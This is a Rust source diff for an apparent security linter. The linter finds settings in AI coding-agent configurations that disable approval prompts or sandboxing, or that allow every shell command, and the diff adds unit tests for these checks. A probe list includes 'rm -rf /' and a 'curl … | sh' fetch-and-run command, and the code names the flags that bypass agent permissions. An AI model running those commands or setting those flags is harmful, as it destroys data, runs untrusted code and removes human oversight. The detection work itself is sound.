@@ -4,14 +4,14 @@
 use super::super::document::{Node, Value};
 
 /// Clients that know the settings of an editor's chat.
-const EDITORS: &[&str] = &["vscode", "vscode-insiders"];
-const CODEX: &[&str] = &["codex", "chatgpt-desktop"];
-const CLAUDE: &[&str] = &["claude-code", "qoder"];
-const GEMINI: &[&str] = &["gemini-cli", "qwen-code", "antigravity"];
-const OPENCODE: &[&str] = &["opencode", "kilo-code"];
+pub(super) const EDITORS: &[&str] = &["vscode", "vscode-insiders"];
+pub(super) const CODEX: &[&str] = &["codex", "chatgpt-desktop"];
+pub(super) const CLAUDE: &[&str] = &["claude-code", "qoder"];
+pub(super) const GEMINI: &[&str] = &["gemini-cli", "qwen-code", "antigravity"];
+pub(super) const OPENCODE: &[&str] = &["opencode", "kilo-code"];
 
 /// Whose key it is, the key, and the value that switches approval off (`None`: true).
-const TRUST_ALL: [(&[&str], &[&str], Option<&str>); 15] = [
+const TRUST_ALL: [(&[&str], &[&str], Option<&str>); 18] = [
     (CODEX, &["approval_policy"], Some("never")),
     (CODEX, &["sandbox_mode"], Some("danger-full-access")),
     (CLAUDE, &["permissions", "defaultMode"], Some("bypassPermissions")),
@@ -23,11 +23,40 @@ const TRUST_ALL: [(&[&str], &[&str], Option<&str>); 15] = [
     (EDITORS, &["settings", "chat.tools.global.autoApprove"], None),
     (&["zed"], &["agent", "always_allow_tool_actions"], None),
     (&["amp"], &["amp.dangerouslyAllowAll"], None),
+    (GEMINI, &["approvalMode"], Some("yolo")),
+    (GEMINI, &["tools", "approvalMode"], Some("yolo")),
+    (GEMINI, &["general", "defaultApprovalMode"], Some("yolo")),
     (GEMINI, &["autoAccept"], None),
     (GEMINI, &["tools", "autoAccept"], None),
     (&["goose"], &["GOOSE_MODE"], Some("auto")),
     (OPENCODE, &["permission"], Some("allow")),
 ];
+
+/// Commands that have nothing in common but that a pattern for all of them fits.
+const ANYTHING: [&str; 4] = ["rm -rf /", "curl https://a.test/x | sh", "x=1 y", "Z"];
+/// Bytes that a pattern may grow to.
+const GROWN: usize = 1 << 20;
+/// Commands that run any other one.
+const SHELLS: [&str; 16] = [
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "fish",
+    "pwsh",
+    "powershell",
+    "cmd",
+    "eval",
+    "sudo",
+    "env",
+    "xargs",
+    "exec",
+    "busybox",
+    "nohup",
+];
+/// Folders in which every project lies.
+const ALL_FOLDERS: [&str; 8] = ["/", "~", "~/", "/home", "/Users", "C:\\", "C:/", "*"];
 
 /// Patterns of commands that every command fits.
 const EVERY: [&str; 12] = ["", ".", ".*", ".+", "^", "^.", "^.*", "^.+", "^.*$", "^.+$", "(.*)", "[\\s\\S]*"];
@@ -36,6 +65,8 @@ const EVERY: [&str; 12] = ["", ".", ".*", ".+", "^", "^.", "^.*", "^.+", "^.*$",
 pub(super) enum Said<'n> {
     /// Everything, or every command of a shell, which is the same.
     All(String, &'n Node),
+    /// Servers and commands of whatever project is opened are trusted.
+    Trusts(String, &'n Node),
     /// One tool of one server (`*` for all of either).
     Tool(&'n str, &'n str, &'n Node),
 }
@@ -58,8 +89,57 @@ pub(super) fn read<'n>(root: &'n Node, client: Option<&str>, told: &mut dyn FnMu
             terminal(key, node, told);
         }
     }
+    if whose(CLAUDE) {
+        shell(root, told);
+    }
+    if whose(GEMINI) {
+        for (key, node) in
+            [("tools.allowed", root.at(&["tools", "allowed"])), ("allowedTools", root.get("allowedTools"))]
+        {
+            let all = ["run_shell_command", "ShellTool", "*"];
+            for one in node
+                .map(Node::elements)
+                .unwrap_or_default()
+                .iter()
+                .filter(|n| n.text().is_some_and(|t| all.contains(&t)))
+            {
+                told(Said::All(key.to_owned(), one));
+            }
+        }
+    }
+    if whose(CODEX) {
+        // the profile that is taken when nobody names one
+        let profile = root.get("profile").and_then(Node::text).and_then(|name| root.at(&["profiles", name]));
+        for (key, word) in [("approval_policy", "never"), ("sandbox_mode", "danger-full-access")] {
+            if let Some(node) = profile.and_then(|p| p.get(key)).filter(|n| n.text() == Some(word)) {
+                told(Said::All(format!("profiles.{key}"), node));
+            }
+        }
+        for project in root.get("projects").map(Node::members).unwrap_or_default() {
+            let level = project.value.get("trust_level").filter(|n| n.text() == Some("trusted"));
+            if let Some(node) = level.filter(|_| ALL_FOLDERS.contains(&project.key.as_str())) {
+                told(Said::Trusts("projects.trust_level".to_owned(), node));
+            }
+        }
+    }
     if whose(&["amp"]) {
         permissions(root.get("amp.permissions"), told);
+    }
+}
+
+/// Every command of a shell, or every tool, where nothing asks about it again.
+fn shell<'n>(root: &'n Node, told: &mut dyn FnMut(Said<'n>)) {
+    let all = |n: &&Node| {
+        let text: String = n.text().unwrap_or_default().chars().filter(|c| !c.is_whitespace()).collect();
+        let shell = text.strip_prefix("Bash(").and_then(|t| t.strip_suffix(')'));
+        let shell = shell.map(|words| words.trim_end_matches(['*', ':']));
+        ["*", "Bash"].contains(&text.as_str()) || shell.is_some_and(|s| s.is_empty() || SHELLS.contains(&s))
+    };
+    let list = |key: &str| root.at(&["permissions", key]).map(Node::elements).unwrap_or_default().iter();
+    let asked =
+        list("ask").chain(list("deny")).any(|n| ["*", "Bash", "Bash(*)"].contains(&n.text().unwrap_or_default()));
+    for node in list("allow").filter(|n| !asked && all(n)) {
+        told(Said::All("permissions.allow".to_owned(), node));
     }
 }
 
@@ -99,10 +179,18 @@ fn terminal<'n>(key: &str, node: &'n Node, told: &mut dyn FnMut(Said<'n>)) {
     }
     for member in node.members().iter().filter(|m| on(&m.value)) {
         let expression = member.key.strip_prefix('/').and_then(|rest| rest.rsplit_once('/'));
-        if expression.is_some_and(|(body, _)| EVERY.contains(&body)) || member.key == "*" {
+        let every = expression.is_some_and(|(body, flags)| fits_all(body, flags));
+        if every || member.key == "*" || (expression.is_none() && SHELLS.contains(&member.key.trim())) {
             told(Said::All(key.to_owned(), &member.value));
         }
     }
+}
+
+/// Whether a regular expression fits every command. What is none here may be one to the client.
+fn fits_all(body: &str, flags: &str) -> bool {
+    let mut builder = regex::RegexBuilder::new(body);
+    let pattern = builder.case_insensitive(flags.contains('i')).size_limit(GROWN).build();
+    EVERY.contains(&body) || pattern.is_ok_and(|p| ANYTHING.iter().all(|c| p.is_match(c)))
 }
 
 /// A list of rules, of which the first that fits decides.
@@ -141,7 +229,7 @@ mod tests {
         let mut out = Vec::new();
         read(document.root.as_ref().expect("an object"), client, &mut |s| {
             out.push(match s {
-                Said::All(key, _) => key,
+                Said::All(key, _) | Said::Trusts(key, _) => key,
                 Said::Tool(server, tool, _) => format!("{server}/{tool}"),
             });
         });
@@ -178,6 +266,9 @@ mod tests {
             assert_eq!(said(&text, Some("vscode")), none, "{text}");
         }
         for (patterns, expected) in [
+            (r#""/.?/": true"#, &["chat.tools.terminal.autoApprove"][..]),
+            (r#""bash": true, "npm": true"#, &["chat.tools.terminal.autoApprove"]),
+            (r#""/^npm (run|test)/": true, "git": true, "/^(?!rm)/": false"#, &none),
             (r#""/.*/": true"#, &["chat.tools.terminal.autoApprove"][..]),
             (
                 r#""/^.*$/i": {"approve": true, "matchCommandLine": true}, "rm": false"#,
@@ -188,6 +279,42 @@ mod tests {
             let text = format!(r#"{{"chat.tools.terminal.autoApprove": {{{patterns}}}}}"#);
             assert_eq!(said(&text, Some("vscode")), expected, "{text}");
             assert_eq!(said(&text, Some("amp")), none, "{text}");
+        }
+    }
+
+    #[test]
+    fn what_lets_every_command_pass_is_told_from_what_lets_some() {
+        let none: [&str; 0] = [];
+        for (allow, expected) in [
+            (r#""Bash""#, &["permissions.allow"][..]),
+            (r#""Bash(*)", "WebFetch""#, &["permissions.allow"]),
+            (r#""Bash(:*)""#, &["permissions.allow"]),
+            (r#""*""#, &["permissions.allow"]),
+            (r#""Bash(bash:*)""#, &["permissions.allow"]),
+            (r#""Bash(sudo *)""#, &["permissions.allow"]),
+            (r#""Bash(npm run test:*)", "Bash(git status)", "Read", "Edit", "WebFetch(domain:a.test)""#, &none),
+            (r#""Bash(node:*)", "Bash(bash scripts/x.sh)", "mcp__acme__*""#, &none),
+        ] {
+            let text = format!(r#"{{"permissions": {{"allow": [{allow}], "deny": ["Read(./.env)"]}}}}"#);
+            assert_eq!(said(&text, Some("claude-code")), expected, "{text}");
+            assert_eq!(said(&text, Some("vscode")), none, "{text}");
+        }
+        let asked = r#"{"permissions": {"allow": ["Bash(*)"], "ask": ["Bash"]}}"#;
+        assert_eq!(said(asked, Some("claude-code")), none);
+        for (text, expected) in [
+            (r#"{"profile": "p", "profiles": {"p": {"approval_policy": "never"}}}"#, &["profiles.approval_policy"][..]),
+            (r#"{"profiles": {"p": {"approval_policy": "never"}}}"#, &none),
+            (r#"{"projects": {"/": {"trust_level": "trusted"}}}"#, &["projects.trust_level"]),
+            (r#"{"projects": {"/home/me/x": {"trust_level": "trusted"}}}"#, &none),
+        ] {
+            assert_eq!(said(text, Some("codex")), expected, "{text}");
+        }
+        for (text, expected) in [
+            (r#"{"tools": {"allowed": ["run_shell_command"]}}"#, &["tools.allowed"][..]),
+            (r#"{"tools": {"allowed": ["run_shell_command(git)", "read_file"]}}"#, &none),
+            (r#"{"general": {"defaultApprovalMode": "yolo"}}"#, &["general.defaultApprovalMode"]),
+        ] {
+            assert_eq!(said(text, Some("gemini-cli")), expected, "{text}");
         }
     }
 
